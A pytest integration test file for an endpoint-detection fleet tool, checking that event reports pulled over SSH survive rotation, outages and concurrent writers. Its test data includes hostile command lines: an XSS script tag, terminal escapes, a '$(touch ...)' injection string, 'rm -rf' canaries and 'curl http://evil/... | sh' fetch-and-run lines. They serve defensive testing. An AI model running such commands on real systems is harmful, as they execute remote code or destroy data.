"""`edrfleet report` against real sshd lab hosts: pulls over SSH, rotation, unreachable hosts.

Events are written into each lab host's spool by the agent's own Spool class (rotating at a
small size), the agent release is put on the host over SSH as the host layout says
(releases/<id>/agent.pyz, current -> it), and the real `edrfleet report` command pulls them
with `agent.pyz pull` over SSH.  Each test uses its own install and spool directories on the
lab hosts, so deploy tests sharing the lab keep theirs.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml

from edrfleet.agent import ecs
from edrfleet.agent.pull import read_machine_id
from edrfleet.agent.spool import Spool
from edrfleet.agent.status import Status, write_status
from edrfleet.fleet.deploy.release import build_release
from edrfleet.fleet.report.backends import open_store
from edrfleet.fleet.report.pull import pull_hosts
from edrfleet.fleet.report.queries import command_pattern
from edrfleet.fleet.report.store import host_key
from edrfleet.fleet.transport.ssh import SshTransport
from tests.unit.helpers.postgres_server import empty_store, postgres_server

__all__ = ["postgres_server"]  # the fixture, for the PostgreSQL test below

EDRFLEET = [sys.executable, "-m", "edrfleet.cli.main"]
HOSTILE = ["<script>alert(1)</script>", "\x1b[2J\x1b]0;pwn\x07", "a\nb\r\n", "\udcff\udcfe",
           "$(touch /tmp/edrfleet-pwned-report)", "x" * 20_000]


@dataclass
class ReportLab:
    inventory: Path
    names: list[str]
    spools: dict[str, Path]
    hosts: dict[str, object]  # name -> Host with this test's directories

    def spool(self, name: str, **kw) -> Spool:
        return Spool(str(self.spools[name]), max_bytes=kw.pop("max_bytes", 4096),
                     keep=kw.pop("keep", 200), **kw)


def event(host: str, i: int, action: str = "blocked", cmd: str | None = None) -> dict:
    if cmd is None:
        cmd = HOSTILE[i % len(HOSTILE)] if i % 10 == 0 else f"rm -rf /tmp/edrfleet-canary-{i}"
    return ecs.nest({"@timestamp": "2026-12-01T05:00:00.000000Z", "event.id": f"{host}-{i:06d}",
                     "event.action": action, "host.name": host, "rule.id": "lab-canary",
                     "edrfleet.severity": "critical", "process.command_line": cmd,
                     "process.args": cmd.split(" ")})


@pytest.fixture()
def report_lab(lab_hosts) -> Iterator[ReportLab]:
    tag = f"report-{uuid.uuid4().hex[:8]}"
    doc = yaml.safe_load(lab_hosts.inventory.read_text())
    lab_group = doc["all"]["children"]["lab"]
    release = build_release()
    bases: list[Path] = []
    spools: dict[str, Path] = {}
    for name, hv in lab_group["hosts"].items():
        base = Path(hv["edrfleet_spool_dir"]).parent / tag
        bases.append(base)
        hv["edrfleet_install_dir"] = str(base / "install")
        spools[name] = base / "spool"
        hv["edrfleet_spool_dir"] = str(spools[name])
    inventory = lab_hosts.inventory.parent / f"{tag}.yml"
    inventory.write_text(yaml.safe_dump(doc, sort_keys=False))
    from edrfleet.fleet.inventory.load import load_inventory

    hosts = dict(load_inventory(inventory).hosts)
    for host in hosts.values():  # install the release over SSH, as deploy lays it out
        install = host.vars["edrfleet_install_dir"]
        rel = f"{install}/releases/{release.id}"
        with SshTransport(host, inventory.parent, connect_timeout=5) as t:
            t.run(["mkdir", "-p", rel])
            t.put(release.files["agent.pyz"], f"{rel}/agent.pyz")
            t.run(["ln", "-sfn", f"releases/{release.id}", f"{install}/current"])
    try:
        yield ReportLab(inventory, list(hosts), spools, hosts)
    finally:
        inventory.unlink(missing_ok=True)
        for b in bases:
            shutil.rmtree(b, ignore_errors=True)


def report(lab: ReportLab, db: Path, out: Path, *extra: str) -> tuple[int, dict, str]:
    p = subprocess.run([*EDRFLEET, "report", str(lab.inventory), "--db", str(db),
                        "--format", "json", "-o", str(out), *extra],
                       capture_output=True, text=True, timeout=300)
    return p.returncode, json.loads(out.read_text()), p.stderr


def stored_ids(db: Path | str) -> list[str]:
    with open_store(db) as s:
        return sorted(r[0] for r in s.event_rows())


def test_report_after_rotations_has_every_event_exactly_once(report_lab, tmp_path) -> None:
    db, out = tmp_path / "report.db", tmp_path / "r.json"
    spools = {n: report_lab.spool(n) for n in report_lab.names}
    expected: list[str] = []
    for n, s in spools.items():
        s.append([event(n, i) for i in range(150)])
        expected += [f"{n}-{i:06d}" for i in range(150)]
    rc, summary, err = report(report_lab, db, out)
    assert rc == 0, err
    assert summary["totals"]["blocked"] == 450 and summary["failed_hosts"] == []
    assert sorted(stored_ids(db)) == sorted(expected)

    for n, s in spools.items():  # more events, several rotations past the cursor's file
        before = s.rotations
        s.append([event(n, i, "would_block" if i % 2 else "logged") for i in range(150, 400)])
        assert s.rotations - before >= 5
        expected += [f"{n}-{i:06d}" for i in range(150, 400)]
    rc, summary, err = report(report_lab, db, out)
    assert rc == 0, err
    ids = stored_ids(db)
    assert len(ids) == len(set(ids)) and sorted(ids) == sorted(expected)
    assert [h["new_events"] for h in summary["hosts"]] == [250, 250, 250]
    assert summary["totals"] == {"blocked": 450, "would_block": 375, "logged": 375, "other": 0}
    assert not any(h["lost"] for h in summary["hosts"])

    rc, summary, err = report(report_lab, db, out)  # nothing new: nothing added
    assert rc == 0 and [h["new_events"] for h in summary["hosts"]] == [0, 0, 0]
    for s in spools.values():
        s.close()


def test_hostile_command_lines_arrive_intact_and_print_inert(report_lab, tmp_path) -> None:
    name = report_lab.names[0]
    with report_lab.spool(name) as s:
        s.append([event(name, i, cmd=c) for i, c in enumerate(HOSTILE)])
    db = tmp_path / "report.db"
    rc, summary, err = report(report_lab, db, tmp_path / "r.json", "--limit", name)
    assert rc == 0, err
    with open_store(db) as store:
        raws = [json.loads(r[7]) for r in sorted(store.event_rows())]
    assert [ecs.get(e, ecs.COMMAND_LINE) for e in raws] == HOSTILE
    html = subprocess.run([*EDRFLEET, "report", str(report_lab.inventory), "--db", str(db),
                           "--limit", name, "--no-pull", "--format", "html"],
                          capture_output=True, text=True, timeout=120, check=True).stdout
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "<script>" not in html
    table = subprocess.run([*EDRFLEET, "report", str(report_lab.inventory), "--db", str(db),
                            "--limit", name, "--no-pull"],
                           capture_output=True, text=True, timeout=120, check=True).stdout
    assert "\x1b" not in table and "<script>alert(1)</script>" in table
    assert not Path("/tmp/edrfleet-pwned-report").exists()


def test_an_unreachable_host_is_reported_while_the_others_are_pulled(lab_hosts, report_lab,
                                                                     tmp_path) -> None:
    db, out = tmp_path / "report.db", tmp_path / "r.json"
    for n in report_lab.names:
        with report_lab.spool(n) as s:
            s.append([event(n, i) for i in range(20)])
    down = report_lab.names[1]
    with lab_hosts.sshd_stopped(down):
        rc, summary, err = report(report_lab, db, out)
    assert rc == 1
    assert summary["failed_hosts"] == [down] and f"{down}: not pulled:" in err
    by = {h["name"]: h for h in summary["hosts"]}
    assert by[down]["pull"] == "failed" and "Unreachable" in by[down]["error"]
    for n in report_lab.names:
        if n != down:
            assert (by[n]["pull"], by[n]["new_events"]) == ("ok", 20)
    rc, summary, err = report(report_lab, db, out)  # back up: its events come, once
    assert rc == 0, err
    assert [h["new_events"] for h in summary["hosts"]] == [0, 20, 0]
    assert len(stored_ids(db)) == 60


def events_cmd(lab: ReportLab, db: Path, *extra: str) -> tuple[int, str, str]:
    p = subprocess.run([*EDRFLEET, "events", str(lab.inventory), "--db", str(db), *extra],
                       capture_output=True, text=True, timeout=300)
    return p.returncode, p.stdout, p.stderr


def test_events_pulls_then_lists_and_filters_what_the_hosts_wrote(report_lab, tmp_path):
    """`edrfleet events` over SSH: it pulls first (like report), then lists the stored events
    newest first, filtered by host pattern, action, rule, time and command-line text."""
    a, b, c = report_lab.names
    who = {"user.name": "alice", "process.parent.executable": "/usr/bin/bash",
           "process.working_directory": "/srv/app"}
    for n in report_lab.names:
        with report_lab.spool(n) as s:
            s.append([ecs.nest(ecs.flatten(event(n, i, ("blocked", "would_block", "logged")[i % 3],
                                                 cmd=f"curl http://evil/{n}/{i} | sh"
                                                 if i % 5 == 0 else None)) | {
                "@timestamp": f"2026-12-01T05:{i:02d}:00.000000Z", **who})
                for i in range(30)])
    db = tmp_path / "report.db"
    rc, out, err = events_cmd(report_lab, db, "--format", "json", "-n", "0")
    assert rc == 0, err
    rows = json.loads(out)
    assert len(rows) == 90  # pulled over SSH first: every host's events
    assert [r["time"] for r in rows] == sorted((r["time"] for r in rows), reverse=True)
    assert {(r["user"], r["parent"], r["working_directory"]) for r in rows} == {
        ("alice", "/usr/bin/bash", "/srv/app")}
    rc, out, err = events_cmd(report_lab, db, "--no-pull", "--format", "json", "-l", b,
                              "--action", "would_block", "--search", "CURL HTTP://EVIL",
                              "--since", "2026-12-01T05:11:00Z")
    assert rc == 0, err
    assert [r["id"] for r in json.loads(out)] == [f"{b}-000025"]  # i % 3 == 1, i % 5 == 0
    rc, out, err = events_cmd(report_lab, db, "--no-pull", "--format", "ndjson", "-l",
                              f"{a}:{c}", "--rule", "lab-canary", "-n", "4")
    assert rc == 0 and "more match" in err
    lines = out.splitlines()
    assert len(lines) == 4 and {ecs.get(json.loads(x), ecs.HOST) for x in lines} <= {a, c}
    rc, out, err = events_cmd(report_lab, db, "--no-pull", "-l", a, "--rule", "none")
    assert rc == 0 and "0 events" in out


def test_status_json_reaches_the_summary(report_lab, tmp_path) -> None:
    name = report_lab.names[0]
    report_lab.spool(name).close()
    write_status(str(report_lab.spools[name]),
                 Status(state="enforcing", backend="sigkill", policy_sha256="cd" * 32))
    rc, summary, err = report(report_lab, tmp_path / "r.db", tmp_path / "r.json")
    assert rc == 0, err
    h = summary["hosts"][0]
    assert (h["state"], h["backend"], h["policy_sha256"]) == ("enforcing", "sigkill", "cd" * 32)


def test_pulling_while_the_spool_rotates_loses_and_repeats_nothing(report_lab, tmp_path):
    name = report_lab.names[2]
    host = report_lab.hosts[name]
    store = open_store(tmp_path / "r.db")
    done, pulled = threading.Event(), threading.Semaphore(0)
    total = 3000

    def writer() -> None:
        with report_lab.spool(name, max_bytes=8192, keep=500) as s:
            for k in range(0, total, 50):
                s.append([event(name, i) for i in range(k, k + 50)])
                if k % 1000 == 950:  # let a pull in between, mid-rotation
                    pulled.acquire(timeout=60)
                time.sleep(0.005)
        done.set()

    def connect(h):
        return SshTransport(h, report_lab.inventory.parent, connect_timeout=5)

    t = threading.Thread(target=writer)
    t.start()
    pulls = 0
    while not done.is_set():
        r = pull_hosts([host], store, connect, max_bytes=16384)[name]
        assert r.ok, r.error
        pulls += 1
        pulled.release()
    t.join()
    r = pull_hosts([host], store, connect, max_bytes=16384)[name]
    assert r.ok and not r.lost
    ids = [x[0] for x in store.event_rows(host_key(name, read_machine_id()))]
    assert sorted(ids) == [f"{name}-{i:06d}" for i in range(total)]
    assert pulls >= 3
    store.close()


def test_two_controllers_fill_one_postgresql_at_once_twice(report_lab, postgres_server,
                                                           tmp_path) -> None:
    """Two `edrfleet report` processes, --limit shards overlapping on one host, into one
    PostgreSQL at the same time, twice: the store holds each spool event exactly once."""
    db = empty_store(postgres_server)
    a, b, c = report_lab.names
    written = dict.fromkeys(report_lab.names, 0)
    for round_ in range(2):
        for n in report_lab.names:
            with report_lab.spool(n) as s:
                s.append([event(n, i) for i in range(written[n], written[n] + 400)])
            written[n] += 400
        procs = [subprocess.Popen([*EDRFLEET, "report", str(report_lab.inventory), "--db", db,
                                   "--limit", shard, "--format", "json", "-o",
                                   str(tmp_path / f"r{round_}{k}.json")],
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
                 for k, shard in enumerate((f"{a},{b}", f"{b},{c}"))]
        for p in procs:
            _out, err = p.communicate(timeout=300)
            assert p.returncode == 0, err
        new = [{h["name"]: h["new_events"] for h in json.loads(
            (tmp_path / f"r{round_}{k}.json").read_text())["hosts"]} for k in range(2)]
        assert {n: sum(x.get(n, 0) for x in new) for n in report_lab.names} == dict.fromkeys(
            report_lab.names, 400)  # each new event stored by exactly one of the two
        assert stored_ids(db) == sorted(f"{n}-{i:06d}" for n in report_lab.names
                                        for i in range(written[n]))
    with open_store(db) as store:
        assert {r["name"]: r["events"] for r in store.host_rows().values()} == written


# --- with real agents, deployed by `edrfleet deploy` -----------------------------------------


@pytest.fixture(scope="module")
def deployed(lab_hosts):
    from edrfleet.cli.main import main
    from edrfleet.fleet.deploy.deployer import Deployer, DeployOptions
    from edrfleet.fleet.inventory.load import load_inventory

    hosts = list(load_inventory(lab_hosts.inventory).hosts.values())
    dirs = [Path(h.vars[f"edrfleet_{v}_dir"]) for h in hosts
            for v in ("install", "config", "spool", "run")]
    existed = [d for d in dirs if d.is_dir()]
    report = Deployer(lab_hosts.inventory.parent, DeployOptions(connect_timeout=5)).run(hosts)
    assert not report.failed, [(r.name, r.message) for r in report.failed]
    yield
    main(["uninstall", str(lab_hosts.inventory), "--purge"])
    for d in existed:  # leave the lab as we found it for the tests after this one
        d.mkdir(mode=0o700, parents=True, exist_ok=True)
        d.chmod(0o700)


def canary_attack(lab_hosts, name: str) -> tuple[int, bool, str]:
    """rm -rf of a fresh canary inside the host: (exit status, survived, its command line)."""
    victim = Path(f"/tmp/edrfleet-canary-report-{uuid.uuid4().hex[:8]}")
    (victim / "precious").mkdir(parents=True)
    try:
        with lab_hosts.transport(name) as t:
            r = t.run(["sh", "-c", 'rm -rf "$1"; exit $?', "sh", str(victim)], check=False)
        return r.rc, (victim / "precious").is_dir(), f"rm -rf {victim}"
    finally:
        shutil.rmtree(victim, ignore_errors=True)


def test_report_shows_what_deployed_agents_blocked(lab_hosts, deployed, tmp_path) -> None:
    db, out = tmp_path / "report.db", tmp_path / "r.json"
    lab = ReportLab(lab_hosts.inventory, lab_hosts.names, {}, {})
    cmds: dict[str, list[str]] = {}
    for name in lab_hosts.names:
        for _ in range(2):
            rc, survived, cmd = canary_attack(lab_hosts, name)
            assert rc == 137 and survived  # Killed before rm ran
            cmds.setdefault(name, []).append(cmd)
    deadline = time.monotonic() + 30
    while True:  # the agent writes a kill's event at once; give its batch a moment anyway
        rc, summary, err = report(lab, db, out)
        assert rc == 0, err
        by = {h["name"]: h for h in summary["hosts"]}
        if all(by[n]["blocked"] >= 2 for n in lab_hosts.names) or time.monotonic() > deadline:
            break
        time.sleep(0.5)
    for name in lab_hosts.names:
        h = by[name]
        assert h["blocked"] >= 2 and h["state"] == "enforcing", h
        assert h["backend"] in ("sigkill", "lsm") and len(h["policy_sha256"]) == 64
    rules = {r["rule"]: r for r in summary["rules"]}
    assert rules["lab-canary"]["severity"] == "critical"
    assert rules["lab-canary"]["blocked"] >= 2 * len(lab_hosts.names)
    # the canaries' variants grouped by pattern, each line with one of them as its example
    top = {c["pattern"]: c for c in summary["top_blocked"] if c["rule"] == "lab-canary"}
    assert {command_pattern(c) for cs in cmds.values() for c in cs} <= set(top)
    assert all(command_pattern(c["command_line"]) == p for p, c in top.items())
    assert sum(c["count"] for c in top.values()) >= 2 * len(lab_hosts.names)
    rc, again, err = report(lab, db, out)  # nothing new was blocked: nothing new is counted
    assert rc == 0 and again["totals"]["blocked"] == summary["totals"]["blocked"]


def test_a_report_killed_mid_pull_loses_and_repeats_nothing(report_lab, tmp_path) -> None:
    name = report_lab.names[0]
    total = 120_000  # ~36 MiB of lines: three pulls of 16 MiB, each its own transaction
    with report_lab.spool(name, max_bytes=4 << 20, keep=50) as s:
        for k in range(0, total, 10_000):
            s.append([event(name, i, cmd=f"rm -rf /tmp/edrfleet-canary-{i} " + "p" * 100)
                      for i in range(k, k + 10_000)])
    db = tmp_path / "report.db"
    proc = subprocess.Popen([*EDRFLEET, "report", str(report_lab.inventory), "--db", str(db),
                             "--limit", name, "--format", "json"],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    seen = 0
    try:
        deadline = time.monotonic() + 120
        while proc.poll() is None and time.monotonic() < deadline:
            if db.exists():
                with open_store(db) as s:
                    seen = s.count()
                if seen:
                    proc.kill()  # SIGKILL between two committed chunks, or inside one
                    break
            time.sleep(0.02)
    finally:
        proc.kill()
        proc.wait()
    assert 0 < seen < total, f"the kill did not land mid-pull ({seen} of {total} stored)"
    rc, summary, err = report(report_lab, db, tmp_path / "r.json", "--limit", name)
    assert rc == 0, err
    ids = stored_ids(db)
    assert len(ids) == total and ids == sorted(f"{name}-{i:06d}" for i in range(total))
    assert summary["hosts"][0]["new_events"] <= total - seen  # only what was missing
